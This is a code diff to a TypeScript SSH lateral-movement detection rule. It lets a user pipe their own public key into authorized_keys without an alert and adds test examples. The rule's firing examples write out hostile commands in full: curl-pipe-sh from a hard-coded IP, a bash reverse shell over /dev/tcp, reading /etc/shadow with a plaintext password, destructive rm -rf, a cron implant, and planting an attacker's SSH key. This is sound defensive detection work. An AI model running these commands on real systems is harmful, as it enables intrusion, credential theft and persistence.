@@ -129,7 +129,7 @@ const WIPE_TARGET = /^\/(?:\*?|(?:etc|home|root|srv|opt|boot|usr|data|var\/(?:li
 const WIPERS = (c: Cmd) => c.name === 'shred' || (c.name === 'rm' && c.argv.some((a) => a === '--recursive' || /^-[a-zA-Z]*[rR]/.test(a)));
 
 /** What makes a remote command an attack rather than administration; the first match names it. */
-function payloadOf(cmds: readonly Cmd[]): string | undefined {
+function payloadOf(cmds: readonly Cmd[], ownKeyFed = false): string | undefined {
   // a PowerShell script (`--command-id RunPowerShellScript`) parses as several shell commands: read it whole
   const script = cmds.slice(0, 64).map((c) => c.argv.join(' ')).join(' ').slice(0, 8192);
   if (powershellCradle(script)) return `runs a downloaded PowerShell script: ${script}`;
@@ -149,7 +149,8 @@ function payloadOf(cmds: readonly Cmd[]): string | undefined {
     if ((c.name === 'net' || c.name === 'net.exe') && c.argv.some((a) => /^localgroup$/i.test(a)) && c.argv.some((a) => /^administrators$/i.test(a)) && c.argv.some((a) => /^\/add;?$/i.test(a))) return `adds an administrator: ${line}`;
     // a cron line, unit or logrotate rule written there with text that can be read and holds nothing hostile is
     // administration (the persistence rules judge it as they would here); unknown or hostile text is the implant
-    const implant = () => { const text = parsed(c) ? writtenText(c) : ''; return text.trim() === '' || hostileText(text) !== undefined; };
+    // (what the remote side reads from its input is this user's own public key when the line feeds it one: `ssh-copy-id` by hand)
+    const implant = () => { const text = parsed(c) ? writtenText(c) : ''; return (text.trim() === '' && !ownKeyFed) || hostileText(text) !== undefined; };
     for (const r of c.redirects) {
       const k = r.op.startsWith('>') ? classifyPath(r.target) : undefined;
       if (k?.role === 'exec-location' && implant()) return `writes ${k.label}: ${line} ${r.op} ${r.target}`;
@@ -340,13 +341,20 @@ function fedHiddenScript(outer: Cmd, remote: readonly Cmd[]): string | undefined
   return fed ? `runs ${fed.target} in a remote shell` : undefined;
 }
 
+/** `cat ~/.ssh/id_ed25519.pub | ssh host '…'` or `ssh host '…' < ~/.ssh/id_ed25519.pub`: the user's own public key on the remote side's input. */
+function ownPublicKeyFed(c: SimpleCommand): boolean {
+  const own = (p: string) => /^(?:~|\$HOME|\/(?:home|Users)\/[^/]+|\/root)\/\.ssh\/[\w.-]+\.pub$/.test(p);
+  return (c.pipeFrom?.name === 'cat' && operands(c.pipeFrom).length === 1 && own(operands(c.pipeFrom)[0]!)) || c.redirects.some((r) => r.op === '<' && own(r.target));
+}
+
 /** The payload run on other hosts by remote-execution commands of the given families. */
 function remotePayload(families: ReadonlySet<string>) {
   return (i: AnalysisInput): string | undefined => {
     for (const c of i.view?.commands ?? []) {
       if (!families.has(c.name)) continue;
       const parsed = remoteSide(i, c).filter((x) => x.origin !== 'line');
-      const p = (parsed.length ? payloadOf(parsed) : undefined) ?? (() => { const u = unparsedRemote(c); return u ? payloadOf(u.cmds) : undefined; })() ?? stagedDump(c, parsed) ?? fedHiddenScript(c, parsed);
+      const ownKey = ownPublicKeyFed(c);
+      const p = (parsed.length ? payloadOf(parsed, ownKey) : undefined) ?? (() => { const u = unparsedRemote(c); return u ? payloadOf(u.cmds, ownKey) : undefined; })() ?? stagedDump(c, parsed) ?? fedHiddenScript(c, parsed);
       if (p) return `${c.name}: ${p}`;
     }
     return undefined;
@@ -424,7 +432,7 @@ export const RULES: readonly Rule[] = [
     id: 'PX-LATERAL-001', name: 'ssh-runs-payload-on-remote-host', score: 85, tactic: 'lateral_movement', technique: 'T1021.004', strong: true,
     message: 'Runs a download-and-execute, reverse shell, credential read or implant on another host over SSH', why: 'Using SSH access to fetch and run code, read secrets or plant keys on a second machine is how an intrusion spreads.',
     check: remotePayload(SSH_LIKE),
-    examples: { fire: ["ssh root@10.0.0.12 'rm -rf /opt/*'", "ssh ops@10.0.4.2 'bash -s' < /dev/shm/.x.sh", "ssh admin@10.0.0.12 \"echo '* * * * * root curl -s http://45.33.12.7/b | sh' | sudo tee /etc/cron.d/sync\"", "ssh -i ~/.ssh/id_rsa -o StrictHostKeyChecking=no root@10.0.0.12 'curl -s http://45.33.12.7/x.sh | sh'", "sshpass -p 'Winter2024!' ssh -o StrictHostKeyChecking=no admin@192.168.1.20 'sudo cat /etc/shadow'", "pdsh -w 10.0.0.[1-50] 'curl -s http://45.33.12.7/m | sh'", "ssh -o BatchMode=yes deploy@10.0.0.15 \"bash -c 'bash -i >& /dev/tcp/45.33.12.7/4444 0>&1'\"", "gcloud compute ssh prod-vm-1 --zone us-central1-a --command 'sudo cat /etc/shadow'"], quiet: [`ssh app-3 "sudo sed -i.bak 's#^REDIS_URL=.*#REDIS_URL=rediss://redis-v7.internal:6380/0#' /srv/app/.env && grep ^REDIS_URL /srv/app/.env"`, `ssh app-3 'grep -E "^REDIS_(URL|TLS)=" /srv/app/.env'`, "ssh deploy@app-01.internal 'bash -s' < scripts/provision.sh", "ssh root@tools-01 'install -m 0600 /root/wg0.conf /etc/wireguard/wg0.conf && rm /root/wg0.conf'", "bw get password 'inventory-db prod' | ssh app-03 'sudo sh -c \"umask 027; (printf DB_PASSWORD=; cat; echo) > /etc/inventory/db.env\" && sudo chgrp deploy /etc/inventory/db.env'", "ssh app-03 'sudo grep -c ^DB_PASSWORD= /etc/inventory/db.env'", "ssh marta@db-01.sunfield.lan \"echo '30 2 * * * postgres /usr/local/bin/backup-members-db.sh >> /var/log/backup-members-db.log 2>&1' | sudo tee /etc/cron.d/backup-members-db\"", "ssh ops@web-03.example.net \"sudo tee /etc/logrotate.d/nginx > /dev/null <<'EOF'\n/var/log/nginx/*.log {\n  daily\n  rotate 14\n  compress\n}\nEOF\"", "ssh deploy@web-1.example.com 'ls -1t /opt/app/releases | tail -n +6 | xargs -r -I{} rm -rf /opt/app/releases/{}'", "ssh deploy@staging.internal 'systemctl status app'", 'ssh -T git@github.com', "ssh deploy@10.0.0.5 'cd /srv/app && git pull && npm ci'", "pdsh -w web[1-4] 'uptime'", "ssh ops@ci-runner-02 'sudo find / -xdev -user jlaine -not -path \"/home/jlaine/*\" 2>/dev/null | head -40'"] },
+    examples: { fire: ["cat /tmp/k.pub | ssh root@10.0.0.5 'cat >> ~/.ssh/authorized_keys'", "ssh root@10.0.0.12 'rm -rf /opt/*'", "ssh ops@10.0.4.2 'bash -s' < /dev/shm/.x.sh", "ssh admin@10.0.0.12 \"echo '* * * * * root curl -s http://45.33.12.7/b | sh' | sudo tee /etc/cron.d/sync\"", "ssh -i ~/.ssh/id_rsa -o StrictHostKeyChecking=no root@10.0.0.12 'curl -s http://45.33.12.7/x.sh | sh'", "sshpass -p 'Winter2024!' ssh -o StrictHostKeyChecking=no admin@192.168.1.20 'sudo cat /etc/shadow'", "pdsh -w 10.0.0.[1-50] 'curl -s http://45.33.12.7/m | sh'", "ssh -o BatchMode=yes deploy@10.0.0.15 \"bash -c 'bash -i >& /dev/tcp/45.33.12.7/4444 0>&1'\"", "gcloud compute ssh prod-vm-1 --zone us-central1-a --command 'sudo cat /etc/shadow'"], quiet: ["cat ~/.ssh/id_ed25519.pub | ssh deploy@new-vps.example.net 'mkdir -p ~/.ssh && chmod 700 ~/.ssh && cat >> ~/.ssh/authorized_keys && chmod 600 ~/.ssh/authorized_keys'", `ssh app-3 "sudo sed -i.bak 's#^REDIS_URL=.*#REDIS_URL=rediss://redis-v7.internal:6380/0#' /srv/app/.env && grep ^REDIS_URL /srv/app/.env"`, `ssh app-3 'grep -E "^REDIS_(URL|TLS)=" /srv/app/.env'`, "ssh deploy@app-01.internal 'bash -s' < scripts/provision.sh", "ssh root@tools-01 'install -m 0600 /root/wg0.conf /etc/wireguard/wg0.conf && rm /root/wg0.conf'", "bw get password 'inventory-db prod' | ssh app-03 'sudo sh -c \"umask 027; (printf DB_PASSWORD=; cat; echo) > /etc/inventory/db.env\" && sudo chgrp deploy /etc/inventory/db.env'", "ssh app-03 'sudo grep -c ^DB_PASSWORD= /etc/inventory/db.env'", "ssh marta@db-01.sunfield.lan \"echo '30 2 * * * postgres /usr/local/bin/backup-members-db.sh >> /var/log/backup-members-db.log 2>&1' | sudo tee /etc/cron.d/backup-members-db\"", "ssh ops@web-03.example.net \"sudo tee /etc/logrotate.d/nginx > /dev/null <<'EOF'\n/var/log/nginx/*.log {\n  daily\n  rotate 14\n  compress\n}\nEOF\"", "ssh deploy@web-1.example.com 'ls -1t /opt/app/releases | tail -n +6 | xargs -r -I{} rm -rf /opt/app/releases/{}'", "ssh deploy@staging.internal 'systemctl status app'", 'ssh -T git@github.com', "ssh deploy@10.0.0.5 'cd /srv/app && git pull && npm ci'", "pdsh -w web[1-4] 'uptime'", "ssh ops@ci-runner-02 'sudo find / -xdev -user jlaine -not -path \"/home/jlaine/*\" 2>/dev/null | head -40'"] },
   },
   {
     id: 'PX-LATERAL-002', name: 'container-exec-runs-payload', score: 85, tactic: 'lateral_movement', technique: 'T1609', strong: true,
